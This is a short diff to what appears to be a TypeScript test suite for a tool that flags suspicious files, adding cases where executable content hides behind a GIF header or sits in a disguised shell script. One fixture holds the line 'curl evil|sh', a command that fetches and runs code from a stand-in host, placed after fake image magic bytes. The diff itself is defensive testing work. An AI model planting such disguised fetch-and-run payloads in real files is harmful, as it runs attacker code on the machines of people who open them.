@@ -242,6 +242,14 @@ export const control: Control = {
         ]),
       }),
     ),
+    unread('hides a command behind letters with which pictures begin', {
+      tool: Buffer.concat([Buffer.from('GIF89a;curl evil|sh\nexit\n'), Buffer.alloc(300, 0x9c), Buffer.from('\0')]),
+    }),
+    unread(
+      'makes a script of a program of which nobody knows',
+      { tool: Buffer.concat([Buffer.from('#!/bin/sh\nevil\nexit\n'), Buffer.alloc(300, 0x9c), Buffer.from('\0')]) },
+      { base: { tool: Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(300, 0)]) } },
+    ),
     unread('adds a ZIP that Python runs', { 'run.pyz': Buffer.from('PK\u0003\u0004\0\0\0\u009c', 'latin1') }),
     seen(
       'branches off where attributes left a folder out that the target has taken back since',
